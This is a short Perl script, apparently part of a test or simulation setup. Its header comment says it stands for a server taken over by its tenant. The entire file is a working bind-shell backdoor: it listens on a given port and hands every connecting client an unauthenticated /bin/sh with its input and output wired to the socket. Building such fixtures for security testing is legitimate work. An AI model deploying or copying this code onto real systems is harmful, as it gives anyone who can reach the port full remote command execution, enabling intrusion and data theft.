# A way into a member: whoever connects may send a shell script, and reads what
# it says. It stands for a server that its tenant has taken over.
use strict;
use Socket;
my ($address, $port) = @ARGV;
socket(my $server, PF_INET, SOCK_STREAM, 0) or die $!;
setsockopt($server, SOL_SOCKET, SO_REUSEADDR, 1);
bind($server, sockaddr_in($port, inet_aton($address))) or die $!;
listen($server, 128) or die $!;
$SIG{CHLD} = "IGNORE";
while (1) {
    accept(my $client, $server) or next;
    my $pid = fork();
    if (defined $pid && $pid == 0) {
        $SIG{CHLD} = "DEFAULT";
        close $server;
        open(STDIN, "<&", $client);
        open(STDOUT, ">&", $client);
        open(STDERR, ">&", $client);
        close $client;
        exec "/bin/sh", "-s";
    }
    close $client;
}
